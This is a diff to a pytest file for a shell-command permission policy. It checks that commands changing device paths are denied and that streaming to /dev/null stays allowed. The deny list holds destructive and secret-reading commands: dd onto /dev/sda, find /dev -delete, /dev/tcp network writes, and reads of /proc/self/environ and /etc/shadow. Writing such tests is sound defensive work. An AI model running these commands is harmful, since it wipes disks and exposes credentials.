@@ -134,52 +134,46 @@ def test_computed_and_followed_paths_are_denied(
         assert _decide(default_policy, ws, command, role) is not Verdict.ALLOW, (command, role)
 
 
+DEVICE_CHANGES = [
+    "rm -f /dev/null",
+    "rm /dev/stdout",
+    "mv notes.md /dev/null",
+    "chmod 666 /dev/null",
+    "chown nobody /dev/tty",
+    "ln -sf notes.md /dev/stdout",
+    "touch /dev/null",
+    "truncate -s 0 /dev/null",
+    "cp notes.md /dev/sda",
+    "dd if=notes.md of=/dev/sda",
+    "echo x > /dev/tcp/203.0.113.1/80",
+    "cat < /dev/tcp/203.0.113.1/80",
+    "cat /proc/self/environ",
+    "cat /proc/self/root/etc/shadow",
+    "echo x > /proc/sys/kernel/panic",
+    "find /dev -delete",
+    "shred /dev/null",
+]
+DEVICE_STREAMS = [
+    "echo x > /dev/null",
+    "make 2> /dev/null",
+    "cat /dev/null > notes.md",
+    "tee /dev/null < notes.md",
+    "ls > /dev/stdout",
+    "head -c 8 /dev/urandom | od -An -tx1",
+]
+
+
 @pytest.mark.parametrize(
-    "command",
-    [
-        "rm -f /dev/null",
-        "rm /dev/stdout",
-        "mv notes.md /dev/null",
-        "chmod 666 /dev/null",
-        "chown nobody /dev/tty",
-        "ln -sf notes.md /dev/stdout",
-        "touch /dev/null",
-        "truncate -s 0 /dev/null",
-        "cp notes.md /dev/sda",
-        "dd if=notes.md of=/dev/sda",
-        "echo x > /dev/tcp/203.0.113.1/80",
-        "cat < /dev/tcp/203.0.113.1/80",
-        "cat /proc/self/environ",
-        "cat /proc/self/root/etc/shadow",
-        "echo x > /proc/sys/kernel/panic",
-        "find /dev -delete",
-        "shred /dev/null",
-    ],
+    ("command", "want"),
+    [(c, Verdict.DENY) for c in DEVICE_CHANGES] + [(c, Verdict.ALLOW) for c in DEVICE_STREAMS],
 )
-def test_device_paths_are_not_exempt_from_write_and_delete_rules(
-    default_policy: Policy, tmp_path: Path, command: str
+def test_devices_are_streams_never_files_to_change(
+    default_policy: Policy, tmp_path: Path, command: str, want: Verdict
 ) -> None:
+    """Device paths are not exempt from the write and delete rules; streaming stays usable."""
     ws = build_workspace(tmp_path, FILES)
     for role in ("contributor", "admin"):
-        assert _decide(default_policy, ws, command, role) is Verdict.DENY, (command, role)
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        "echo x > /dev/null",
-        "make 2> /dev/null",
-        "cat /dev/null > notes.md",
-        "tee /dev/null < notes.md",
-        "ls > /dev/stdout",
-        "head -c 8 /dev/urandom | od -An -tx1",
-    ],
-)
-def test_devices_stay_usable_as_streams(
-    default_policy: Policy, tmp_path: Path, command: str
-) -> None:
-    ws = build_workspace(tmp_path, FILES)
-    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+        assert _decide(default_policy, ws, command, role) is want, (command, role)
 
 
 @pytest.mark.parametrize(
